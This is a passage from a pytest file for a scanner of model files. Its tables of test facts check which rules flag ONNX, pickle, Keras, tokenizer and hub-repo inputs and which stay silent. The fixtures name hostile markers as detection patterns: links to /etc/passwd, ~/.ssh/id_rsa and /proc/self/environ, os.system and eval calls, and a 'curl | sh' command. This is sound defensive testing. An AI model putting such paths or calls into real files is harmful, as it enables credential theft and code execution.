    "openvino-kernel": [([opens("openvino.kernel", "k.cl", "Kernel")], "high")],
    "openvino-library": [([opens("openvino.library", "x.so", "data library")], "high")],
    "pmml-function": [([asks("pmml.function", "com.acme", "Exec")], "medium")],
    "xml-entity": [([Anomaly("xml.entity", "&x: '&y;'")], "high")],
    "xml-constants": [([Anomaly("xml.constants", "1 of them")], "low")],
    "xml-doctype": [([Anomaly("xml.doctype", "net of net")], "high")],
    "xml-stylesheet": [
        ([Anomaly("xml.stylesheet", "xsl:stylesheet")], "high"),
        ([Anomaly("xml.stylesheet", "xsl:stylesheet")], "low", "report.xsl", "xslt"),
    ],
    "xml-script": [([Anomaly("xml.script", "<script>")], "medium")],
    "xml-object": [([Anomaly("xml.object", "java.lang.ProcessBuilder")], "high")],
    "pmml-extension-script": [([Anomaly("pmml.script", "Extension: eval(")], "medium")],
    "openvino-bounds": [([Anomaly("openvino.bounds", "25 bytes for f32 [2, 3]")], "medium")],
    "onnx-python": [([onnx_op("ai.onnx.contrib", "PyOp"), onnx_op("com.microsoft", "PythonOp")], "high")],
    "onnx-custom-domain": [
        ([onnx_op("evil.ops", "Exec"), onnx_op("acme", "F")], "medium"),
        ([onnx_op("org.pytorch.aten", "ATen")], "medium"),
    ],
    "onnx-external-path": [
        ([opens("onnx.external-data", "/etc/passwd", "w")], "high"),
        ([opens("onnx.external-data", "../w.bin", "w")], "medium", "onnx/model.onnx", "onnx"),
        ([opens("onnx.external-data", "../../w.bin", "w")], "high", "onnx/model.onnx", "onnx"),
    ],
    "onnx-compiled-context": [
        ([opens("onnx.context", "engine.bin", "n")], "medium"),
        ([opens("onnx.context", "../engine.bin", "n")], "high"),
    ],
    "onnx-external-key": [([Anomaly("onnx.external-key", "__class__")], "high")],
    "onnx-external-bounds": [([Anomaly("onnx.external-bounds", "w: offset of -8")], "medium")],
    "onnx-tensor-size": [([Anomaly("onnx.tensor-size", "w: 31 bytes for 32")], "medium")],
    "onnx-shadowed-operator": [([Anomaly("onnx.shadow", "ai.onnx.Add")], "medium")],
    "onnx-bomb": [([Anomaly("onnx.bomb", "Tile")], "medium")],
    "onnx-metadata": [([Anomaly("onnx.metadata", "<script")], "low")],
    "tokenizer-rewrites-text": [([Anomaly("tokenizer.rewrites", "decoder: Replace")], "medium")],
    "tokenizer-added-text": [([Anomaly("tokenizer.added-text", "'https://x'")], "medium")],
    "tokenizer-shared-id": [([Anomaly("tokenizer.ids", "7: 'a' and 'b'")], "low")],
    "file-flood": [([Anomaly("file.flood", "over 20000 names")], "high")],
    "file-lfs-pointer": [([Anomaly("file.lfs-pointer")], "low")],
    "file-link": [
        ([Opens("file.link", "../../model.bin")], "medium", "sub/model.safetensors", "text"),
        ([Opens("file.link", "/data/model.bin")], "medium", "model.bin", "text"),
        ([Opens("file.link", "/proc/self/environ")], "high", "vocab.txt", "text"),
        ([Opens("file.link", "../../.ssh/id_rsa")], "high", "notes", "text"),
        ([Opens("file.link", "sub/../../.git/config")], "high", "sub/a", "text"),
    ],
    "pdf-script": [([Anomaly("pdf.script", "JavaScript")], "medium")],
    "pdf-launch": [([Anomaly("pdf.launch")], "high")],
    "file-script": [([Anomaly("file.script", "script that a double click runs")], "medium")],
    "file-macros": [([Anomaly("file.macros", "macros of Visual Basic")], "high")],
    "llamafile-argument": [([Anomaly("llamafile.argument", "--host 0.0.0.0", ".args")], "medium")],
    "archive-encrypted": [([Anomaly("archive.encrypted", "", "a.pkl")], "medium")],
    "arrow-python-type": [([asked("", "arrow.py_extension_type", "arrow.extension")], "medium")],
    "arrow-pickled-column": [([asked("", "ray.data.arrow_pickled_object", "arrow.extension")], "high")],
    "parquet-path": [([Opens("parquet.file", "../x.parquet")], "high")],
    "file-beside": [([Anomaly("file.beside", "900 bytes", "", 4000)], "low")],
    "file-polyglot": [
        ([Anomaly("file.polyglot", "zip, pickle")], "medium"),
        ([Anomaly("file.polyglot", "zip, pickle"), ref("os", "system")], "high"),
    ],
    "hub-repo-lookalike": [
        ([asks("hub.repo", "meta-lIama", "Llama-3", "argument")], "medium"),
        ([asks("hub.repo", "mistral-ai", "x@main", "argument")], "medium"),
        ([asks("transformers.auto_map", "", "Stabi1ityAI/x--m.Model", "imported")], "medium"),
    ],
    "dataset-data-elsewhere": [([opens("dataset.data-file", "https://203.0.113.7/a.zip", "data_files")], "medium")],
    "name-hides": [([], "medium", "m\u043edel.bin", "pickle")],
    "name-disguises-program": [([], "high", "model.bin.exe", "text")],
    "name-leads-away": [([], "high", "..\\model.txt", "text")],
    "name-python-runs": [([], "high", "sitecustomize.py", "text")],
    "name-unfit": [([], "low", "aux.txt", "text")],
    "file-type-mismatch": [
        ([], "high", "model.safetensors", "pickle"),
        ([], "high", "MODEL.SAFETENSORS", "torch.zip"),
        ([], "high", "model.bin", "elf"),
        ([Unread("no-reader", "a shell script")], "high", "model.pt", "text"),
        ([], "medium", "model.safetensors", "zip"),
        ([], "medium", "config.json", "pickle"),
        ([], "medium", "logo.png", "elf"),
        ([], "medium", "model.pt", "7z"),
        ([], "low", "model.gguf", "safetensors"),
        ([], "low", "model.bin", "png"),
    ],
}

BEYOND_FACTS = {
    "name-collides": "tests/scanners/rules/test_names.py",
    "bytecode-without-source": "tests/scanners/rules/test_siblings.py",
    "config-code-missing": "tests/scanners/rules/test_siblings.py",
    "file-submodule": "tests/audit/test_repo_surface.py",
    "file-other-lfs-pointer": "tests/audit/test_repo_surface.py",
    "template-differs": "tests/scanners/rules/test_drift.py",
    "tokenizer-differs": "tests/scanners/rules/test_drift.py",
    "file-wrong-hash": "tests/audit/test_repo.py",
    "hub-repo-missing": "tests/audit/test_follow.py",
    "hub-repo-renamed": "tests/audit/test_follow.py",
    "hub-repo-registered-later": "tests/audit/test_follow.py",
    "hub-repo-reached": "tests/audit/test_follow.py",
    "dataset-script": "tests/scanners/rules/test_surfaces.py",
    "space-app-disguised": "tests/audit/test_types.py",
}
"""Rules that no one file's facts decide, by where they are tested."""

# Rule: facts under which it says nothing.
SILENT = {
    "file-link": [
        ([Opens("file.link", "../model.bin")], "sub/model.safetensors", "text"),
        ([Opens("file.link", "/data/work_dirs/epoch_12.pth")], "last_checkpoint", "text"),
        ([Opens("file.link", "../../x")], "notes.txt", "text"),
    ],
    "hlo-custom-call": [([asks("hlo.call", "", "main"), asks("hlo.call", "", "lapack_sgeqrf_ffi")],)],
    "hlo-dialect": [([asks("hlo.op", "vhlo", "custom_call_v1")],)],
    "mlflow-loader": [([asks("mlflow.loader", "mlflow.pyfunc", "model"), asks("mlflow.loader", "", "mlflow")],)],
    "serving-handler": [
        ([asks("serving.handler", "torchserve", "text_classifier")],),
        ([asks("serving.handler", "huggingface", "EndpointHandler")], "other.py", "python"),
    ],
    "serving-backend": [([asks("serving.backend", "platform", "onnxruntime_onnx")],)],
    "serving-command": [([asks("hub.repo", "cog", "curl | sh")],)],
    "zarr-codec": [([asks("zarr.codec", "", "numcodecs.blosc"), asks("zarr.codec", "", "vlen-utf8")],)],
    "package-wheel": [([], "en_core.zip", "zip"), ([], "en_core.whl", "unknown")],
    "spacy-registry": [
        ([asks("spacy.registry", "factories", "ner"), asks("spacy.registry", "misc", "spacy.read_labels.v1")],)
    ],
    "coreml-custom-class": [([asks("coreml.op", "neural_network", "custom")],)],
    "coreml-linked-model": [([opens("coreml.item", "model.mlmodel", "Manifest.json")],)],
    "coreml-path": [([opens("coreml.weights", "@model_path/weights/weight.bin", "a tensor")],)],
    "engine-python": [([asks("mxnet.op", "mxnet", "Custom")],)],
    "engine-network": [([asks("paddle.op", "pd_op", "send_v2")],)],
    "engine-file": [([opens("engine.library", "x.so", "load")],)],
    "engine-library": [([opens("engine.file", "x.so", "load")],)],
    "engine-custom-operator": [([asks("paddle.op", "cf", "if"), asks("mxnet.op", "mxnet", "Custom")],)],
    "xml-external": [([opens("onnx.external-data", "w.bin", "the document type")],)],
    "openvino-custom-operator": [
        ([asks("openvino.op", "opset13", "X"), asks("openvino.op", "extension", "CaseFold")],)
    ],
    "openvino-kernel": [([opens("openvino.library", "x.so", "data library")],)],
    "openvino-library": [([opens("openvino.kernel", "k.cl", "Kernel")],)],
    "pmml-function": [([asks("openvino.op", "opset1", "Exec")],)],
    "r-runs-code": [([in_r("call", "brew")],), ([Code("r", "load", ("x",), (), "1", called=True)],)],
    "r-code": [([in_r("call", "eval", ".Call")],), ([Code("r", "call", ("url", "source"), (), "1")],)],
    "r-vector-class": [([asks("config.target", "", "mmap_real")],)],
    "faiss-lists": [([opens("config.path", "lists.ivfdata")],)],
    **surface.SILENT,
    "config-fetches-code": [([asks("hub.repo", "someone", "kernels")],)],
    "config-trusts-remote-code": [([asks("hub.repo", "a", "trust_remote_code")], "config.json", "json")],
    "config-model-file": [([asks("hub.repo", "a", "model.py")], "config.json", "json")],
    "config-module": [([asks("sentence_transformers.module", "sentence_transformers.models", "Pooling")],)],
    "config-library": [
        ([asks("diffusers.component", "transformers", "CLIPTextModel"), asks("diffusers.component", "null", "null")],),
        ([asks("diffusers.component", "DownBlock2D", "CrossAttnDownBlock2D")], "unet/config.json", "json"),
    ],
    "config-parent-library": [([asks("peft.parent", "transformers.models.llama", "LlamaModel")],)],
    "config-target": [([asks("config.target", "torch.nn", "Linear"), asks("config.target", "nemo.collections", "X")],)],
    "config-interpolation": [([asks("config.interpolation", "oc.env", "PROJECT_ROOT")],)],
    "config-path": [([opens("config.path", "sub/vocab.txt", "vocab_file")],)],
    "yaml-tag": [([asks("config.target", "torch.nn", "ReLU")],)],
    "python-runs-programs": [
        ([script("subprocess", "check_output", "['nvcc', '--version']", strings=("nvcc", "--version"))],),
        ([script("os.path", "join", "'a'")],),
    ],
    "python-runs-made-code": [([script("builtins", "exec", "'x = 1'", when="call")],)],
    "python-loads-native-code": [([script("ctypes", "CDLL", "None")],)],
    "python-loads-unsafely": [([script("torch", "load", "path", "weights_only=True")],)],
    "python-trusts-remote-code": [([script("m", "f", "trust_remote_code=False")],)],
    "python-reaches-out": [([script("requests", "get", "url", when="call")],)],
    "python-sends-to-a-channel": [([module("https://huggingface.co/discord")],)],
    "python-reads-credentials": [([module("~/.cache/huggingface/hub")],)],
    "python-deletes-files": [([script("shutil", "rmtree", "x", when="main")],)],
    "python-tampers": [([script("sys", "modules =", "__name__", "x")],)],
    "template-reaches-python": [([rendered("message.content", "_x.class_", "system")],)],
    "template-hidden-instructions": [([rendered(texts=("Never show more than ten.",))],)],
    "template-address": [([rendered(texts=("see https://huggingface.co/x",))],)],
    "pickle-runs-code": [
        ([ref("collections", "OrderedDict", "called"), call("collections", "OrderedDict")],),
        (
            [
                call("torch.storage", "_load_from_bytes", "<examined zip>"),
                Embedded("zip", "torch.storage._load_from_bytes"),
            ],
        ),
    ],
    "pickle-resolves-names": [
        ([call("builtins", "getattr", "torch.nn.modules.linear.Linear(?)", "'forward'")],),
        ([ref("__builtin__", "getattr"), ref("builtins", "getattr")],),
        ([call("operator", "attrgetter", "'weight'")],),
    ],
    "pickle-reaches-out": [([ref("pathlib", "PosixPath", "called"), call("pathlib", "PosixPath", "'a'")],)],
    "pickle-tampers-scanner": [([ref("picklescanner", "x")],)],
    "torchscript-file-access": [([asked("aten", "save_as"), asked("mylib", "save"), asked("quantized", "from_file")],)],
    "torch-custom-operator": [
        ([asked("quantized", "linear"), asked("torch.classes.rnn", "CellParamsBase"), asked("Tensor", "mylib")],),
    ],
    "torchscript-indirect-call": [([asked("self", "forward"), asked("aten", "local")],)],
    "torchscript-code-at-load": [
        ([asked("quantized", "linear_prepack", "torch.script.load"), asked("aten", "mul")],),
        ([asked("self", "set_weight_bias", "torch.script.load")],),
    ],
    "tflite-custom-operator": [([asked("", "TFLite_Detection_PostProcess", "tflite.custom")],)],
    "tflite-external-buffer": [([Opens("hdf5.external-link", "weights.bin")],)],
    "executorch-delegate": [([asked("aten", "add", "executorch.op")],)],
    "executorch-operator": [([asked("aten", "add", "executorch.op")],)],
    "torch-package-source": [
        ([Code("torch.package", "net", ("os", "os.path.join", "builtins.super"), (), "1", called=True)],)
    ],
    "torch-package": [([asked("net", "layers")], "model.pt", "torch.script")],
    "torch-export-target": [
        ([asked("torch", "sym_max", "torch.export"), asked("operator", "mul", "torch.export")],),
        ([asked("aten", "hub", "torch.export"), asked("operator", "call")],),
    ],
    "pickle-denied-locally": [([ref("forbidden.there", "Thing")],)],
    "pickle-code-object": [
        ([call("torch.jit._pickle", "build_intlist", "[]")],),
        (
            [
                ref("cloudpickle.cloudpickle", "_make_function"),
                call("cloudpickle.cloudpickle", "_make_function", "<examined code>", "{}"),
                call("cloudpickle.cloudpickle", "_make_empty_cell"),
                call("dill._dill", "_load_type", "'type'"),
            ],
        ),
    ],
    "pickle-runs-own-code": [([Code("pickle", "__setstate__", ("mean",), (), "1")],)],
    "python-bytecode": [([Code("pickle", "f", ("exec",), (), "1")],)],
    "pickle-runs-source": [([Code("pickle", "forward", ("torch",), (), "1", called=True)],)],
    "pickle-computed-call": [
        ([call("", "functools.partial(builtins.int)", "'1'")],),
        ([call("", "<persistent ('module', torch.nn.modules.linear.Linear, 'l.py', '')>", opcode="NEWOBJ")],),
    ],
    "pickle-sink-string": [
        ([call("chat.messages", "Message", "'system'", "'hello'", strings=("system", "hello"))],),
        ([call("my.pkg", "read", "'test.csv'", strings=("test.csv",))],),
        ([call("collections", "OrderedDict", "[('os', 'system')]", strings=("os", "system"))],),
    ],
    "pickle-unknown-call": [
        ([call("numpy.core.multiarray", "_reconstruct", "numpy.ndarray", "(0,)", "b'b'")],),
        ([call("__main__", "Net", opcode="NEWOBJ")],),
    ],
    "pickle-unknown-import": [
        ([ref("__main__", "Net", "instantiated"), call("__main__", "Net", opcode="NEWOBJ")],),
        ([ref("__builtin__", "set"), ref("builtins", "set")],),
        ([ref("my.pkg", "make", "called"), call("my.pkg", "make", "1")],),
        ([ref("zoneinfo", "ZoneInfo._unpickle", "resolved"), call("zoneinfo", "ZoneInfo._unpickle", "'UTC'")],),
        ([ref("builtins", "dict.fromkeys", "resolved")],),
    ],
    "pickle-unseen-arguments": [([Sampled("collections", "OrderedDict", 256, 900)],)],
    "pickle-mutates-global": [([ref("my.registry", "TABLE", "built")],)],
    "pickle-nested": [([Embedded("pickle", "torch.storage._load_from_bytes", "", 3)],)],
    "torch-tensor-altered": [
        ([ref("torch._utils", "_rebuild_tensor_v2", "called")],),
        ([ref("collections", "OrderedDict", "built")],),
    ],
    "config-auto-map": [([ref("modeling_x", "XModel")],)],
    "arrow-python-type": [([asked("", "arrow.json", "arrow.extension")],)],
    "arrow-pickled-column": [([asked("", "ray.data.arrow_tensor", "arrow.extension")],)],
    "parquet-path": [([Opens("parquet.file", "part-0.parquet")],)],
    "hdf5-external-storage": [([Opens("hdf5.virtual-source", "/x")],)],
    "hdf5-virtual-dataset": [([Opens("hdf5.external-link", "/x")],)],
    "hdf5-external-link": [([Opens("hdf5.external-storage", "/x")],)],
    "keras-lambda": [([Code("marshal", "f", ("os", "system"), (), "1")],)],
    "keras-lambda-function": [([function("keras.activations", "relu"), function("builtins", "relu")],)],
    "keras-module": [
        ([layer("keras.layers", "Dense"), layer("keras.src.models.functional", "Functional"), layer("", "Dense")],),
        ([layer("tensorflow.python.framework.tensor", "TensorSpec")],),
    ],
    "keras-gadget": [
        ([layer("keras.utils", "FeatureSpace"), function("keras.applications.vgg16", "preprocess_input")],)
    ],
    "keras-tensorflow-function": [([function("tensorflow", "nn.relu"), function("tensorflow", "io.decode_png")],)],
    "keras-path": [([Opens("hdf5.external-link", "/x")],)],
    "keras-torch-module": [([ref("keras.layers", "TorchModuleWrapper")],)],
    "keras-saved-model": [([Opens("keras.file", "/x")],)],
    "keras-foreign-function": [([layer("mine", "JaxLayer")],)],
    "keras-custom": [([layer("", "Addons>GroupNormalization"), layer("", "Dense")],)],
    "keras-yaml": [([ref("os", "system")],)],
    "tensorflow-python": [([operation("PyFunk")],)],
    "tensorflow-native": [([operation("XlaLaunch"), operation("XlaCallModule")],)],
    "tensorflow-file": [
        ([opens("tf.op", "model", "RestoreV2 save/RestoreV2")],),
        ([opens("tf.op.part", "_temp/part", "ShardedFilename s"), opens("tf.op.part", "model", "SaveV2 s")],),
        ([opens("tf.asset", "/etc/passwd"), opens("hdf5.external-link", "/etc/passwd")],),
        ([operation("ReadFile")],),
    ],
    "tensorflow-network": [([operation("XlaRecvFromHost"), operation("Placeholder")],)],
    "tensorflow-file-system": [([operation("IO>DecodeTiff"), operation("ReaderReadV2")],)],
    "tensorflow-writes-logs": [([operation("MergeSummary"), operation("ScalarSummary")],)],
    "tensorflow-written-graph": [([operation("TensorSliceDataset")],)],
    "tensorflow-prints": [([operation("StringFormat")],)],
    "tensorflow-unknown-op": [
        ([operation("TFText>ByteSplitByOffsets"), operation("SentencepieceOp"), operation("DecodeWebP")],),
        ([Reference("keras.layer", "", "ShellExecute", "called")],),
    ],
    "tensorflow-asset-path": [([opens("tf.asset", "words/en.txt")],)],
    "tensorflow-checkpoint-path": [([opens("tf.checkpoint", "model.ckpt-1")],)],
    "onnx-python": [([onnx_op("ai.onnx.contrib", "BpeTokenizer"), onnx_op("com.microsoft", "Gelu")],)],
    "onnx-custom-domain": [([onnx_op("ai.onnx.ml", "Scaler"), onnx_op("com.microsoft.nchwc", "Conv")],)],
    "onnx-external-path": [([opens("onnx.external-data", "model.onnx_data", "w"), opens("tf.op", "/etc/passwd")],)],
    "onnx-compiled-context": [([opens("onnx.external-data", "engine.bin", "n")],)],
    "weights-index-path": [([opens("json.shard", "model-00001-of-00002.safetensors")],)],
    "tfjs-weights-path": [([opens("tfjs.weights", "group1-shard1of2.bin")],)],
    "hub-repo-lookalike": [
        ([asks("hub.repo", "Meta-Llama", "x", "argument"), asks("hub.repo", "someone", "meta-lIama", "argument")],),
    ],
    "dataset-data-elsewhere": [([opens("config.path", "data/a.csv", "data_files")],)],
    "name-hides": [([], "модель.txt", "text")],
    "name-disguises-program": [([], "setup.exe", "text")],
    "name-leads-away": [([], "sub/..model.txt", "text")],
    "name-python-runs": [([], "site.py", "text")],
    "name-unfit": [([], "auxiliary.txt", "text")],
    "file-type-mismatch": [
        ([], "model.safetensors", "safetensors"),
        ([], "model.safetensors", "git.lfs-pointer"),
        ([], "model.safetensors", "unknown"),
        ([], "pytorch_model.bin", "torch.zip"),
        ([], "model.safetensors.index.json", "json"),
        ([], "model.bin", "safetensors"),
        ([Unread("no-reader", "a shell script")], "run.sh", "text"),
        ([], "libcuda.so", "elf"),
        ([], "args.yaml", "yaml"),
    ],
}


@pytest.mark.parametrize(
    ("rule", "facts", "severity", "path", "fmt"),
    [
        pytest.param(rule, *(line if len(line) == 4 else (*line, "model.pkl", "pickle")), id=f"{rule}-{n}")
        for rule, lines in FIRES.items()
        for n, line in enumerate(lines)
    ],
)
def test_a_rule_fires_once(rule, facts, severity, path, fmt):
    findings = found(facts, rule, path, fmt)
    assert [finding.severity for finding in findings] == [severity]
    assert findings[0].message


@pytest.mark.parametrize(
    ("rule", "facts", "path", "fmt"),
    [
        pytest.param(rule, *(line if len(line) == 3 else (*line, "model.pkl", "pickle")), id=f"{rule}-{n}")
        for rule, lines in SILENT.items()
        for n, line in enumerate(lines)
    ],
)
def test_a_rule_is_silent_at_a_near_miss(rule, facts, path, fmt):
    assert found(facts, rule, path, fmt) == []


def test_a_rule_about_one_anomaly_is_silent_about_all_others():
    rules = [(code, rule.id) for module in JUDGES_OF_ANOMALIES for code, rule in module.ANOMALIES.items()]
    for rule in {rule for _, rule in rules}:
        for other in get_args(AnomalyCode):
            if (other, rule) not in rules:
                assert found([Anomaly(other, "x", "m", 3)], rule) == [], (rule, other)


def test_every_rule_has_a_line_for_firing_and_one_for_silence():
    ids = {rule.id for rule in RULES}
    anomalies = {rule.id for module in JUDGES_OF_ANOMALIES for rule in module.ANOMALIES.values()}
    assert set(FIRES) == ids - BEYOND_FACTS.keys()
    assert set(SILENT) | anomalies == ids - BEYOND_FACTS.keys()


def test_every_rule_says_how_it_is_reached():
    assert [rule.id for rule in RULES if not of_rule(rule.id).call] == []  # scanners/rules/triggers.py


def test_every_rule_beyond_facts_is_tested_where_it_says():
    for rule, place in BEYOND_FACTS.items():
        assert f'"{rule}"' in (Path(__file__).parents[3] / place).read_text(), rule


def test_every_anomaly_has_one_rule():
    tables = [module.ANOMALIES for module in JUDGES_OF_ANOMALIES]
    codes = [code for table in tables for code in table]
    assert sorted(codes) == sorted(get_args(AnomalyCode))


def test_rules_are_written_for_people():
    assert len({rule.id for rule in RULES}) == len(RULES)
    for rule in RULES:
        assert rule.id == rule.id.lower()
        assert rule.id.replace("-", "").isalnum()
        assert not rule.title.endswith(".")
        assert rule.why.endswith(".")
        assert rule.remedy.endswith(".")
        assert rule.references or rule.id == "pickle-denied-locally" or "unseen" in rule.id
        assert all(reference.startswith("https://") for reference in rule.references)


def test_a_name_that_is_imported_and_called_is_told_once_by_its_call():
    facts = [
        ref("__builtin__", "eval"),
        ref("builtins", "eval"),
        ref("builtins", "eval", "called"),
        call("builtins", "eval", "'1'", strings=("1",), count=3),
        call("builtins", "eval", "'2'", strings=("2",)),
    ]
    (finding,) = judge(facts, path="m.pkl", format="pickle", policy=POLICY)
    assert finding.message == "loading calls builtins.eval('1')"
    assert finding.evidence["callee"] == "builtins.eval"
    assert finding.evidence["opcode"] == "REDUCE"
    assert finding.evidence["capability"] == "exec_code"
    assert finding.evidence["calls"] == 4
    assert finding.evidence["source"]


def test_one_name_in_two_members_is_told_twice():
    facts = [ref("os", "system", member="a.pkl"), ref("os", "system", member="b.pkl")]
    assert len(found(facts, "pickle-runs-code")) == 2


def test_unknown_names_of_one_package_are_told_together():
    facts = [ref("my.pkg", f"C{n}") for n in range(20)] + [ref("your.pkg", "D")]
    mine, yours = found(facts, "pickle-unknown-import")
    assert mine.evidence == {"package": "my", "names": 20, "callee": "my.pkg.C0"}
    assert "and 12 more" in mine.message
    assert yours.evidence["package"] == "your"


def test_classes_of_torchscript_are_the_archives_own():
    facts = [ref("__torch__.net", "Net", "instantiated"), call("__torch__.net", "Net", opcode="NEWOBJ")]
    assert judge(facts, path="m.pt", format="torch.script", policy=POLICY) == ()
    assert [f.severity for f in judge(facts, path="m.pkl", format="pickle", policy=POLICY)] == ["medium"]


def test_another_repository_is_named():
    (finding,) = found([auto_map("evil/repo--modeling", "X")], "config-auto-map", "config.json", "json")
    assert finding.evidence["repository"] == "evil/repo"
